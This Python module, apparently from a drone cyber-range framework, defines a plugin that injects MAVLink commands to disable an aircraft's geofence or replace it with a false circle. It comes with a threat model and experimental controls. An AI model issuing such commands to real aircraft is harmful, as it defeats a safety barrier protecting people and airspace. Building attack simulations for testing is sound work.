"""Fence tampering: the fence is disabled, or replaced by one around a place of the attacker."""

from __future__ import annotations

from typing import Literal

from pydantic import Field, model_validator

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.mavlink.injection import Injection, Order, geodetic, inject
from skyrange.attack.mavlink.script import Item, Script, Step, Upload
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.params import Enu, Number, refuse
from skyrange.core.errors import Problem


class FenceTampering(Injection):
    """What becomes of the fence."""

    form: Literal["disable", "move"] = Field(
        default="disable",
        description="disable: DO_FENCE_ENABLE with 0; move: uploads one circle, inside or outside of which the "
        "aircraft must stay, and enables the fence.",
    )
    at: Enu | None = Field(
        default=None,
        description="Centre of the circle of form 'move', [east_m, north_m, up_m] in metres from the origin or the "
        "attack's anchor.",
    )
    radius_m: Number = Field(default=30.0, ge=1, le=10_000, description="Radius of that circle, in metres.")
    excludes: bool = Field(
        default=False, description="Whether the aircraft must stay outside of the circle; else inside."
    )

    @model_validator(mode="after")
    def _has_centre(self) -> FenceTampering:
        if self.form == "move" and self.at is None:
            raise refuse(Problem("at", "none", "the centre of the circle, for the form 'move'"))
        return self


def make(params: FenceTampering, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    steps: list[Step]
    shown = {}
    if params.form == "disable" or params.at is None:
        steps = [Order(mav.MAV_CMD_DO_FENCE_ENABLE, (0.0,))]
    else:
        command = mav.MAV_CMD_NAV_FENCE_CIRCLE_EXCLUSION if params.excludes else mav.MAV_CMD_NAV_FENCE_CIRCLE_INCLUSION
        circle = Item(command, geodetic(context.origin, params.at), params.radius_m)
        steps = [Upload((circle,), mav.MAV_MISSION_TYPE_FENCE), Order(mav.MAV_CMD_DO_FENCE_ENABLE, (1.0,))]
        shown = {"false fence": params.at}
    return Attack(taps=inject(params, context, Script, context.schedule, tuple(steps)), shown=shown)


FENCE = AttackPlugin(
    FenceTampering,
    make,
    "Disables the fence of the aircraft, or replaces it by another.",
    technique="T0837",
    surface=("gcs", "log", "autopilot"),
    persists="flight",
    effect="the fence does not hold the aircraft, or holds it where it should not",
    threat=ThreatModel(
        knowledge="system ids, from any frame",
        position="on the network of the control link, or on board",
        equipment="a computer with a MAVLink library",
        budget="one command, or an upload of one item and a command",
    ),
    controls=Controls(
        load="the sham: the same frames, addressed to a system that is not there",
        content="DO_FENCE_ENABLE with 1 while the fence is enabled",
        placement="the same frames to another aircraft",
    ),
)
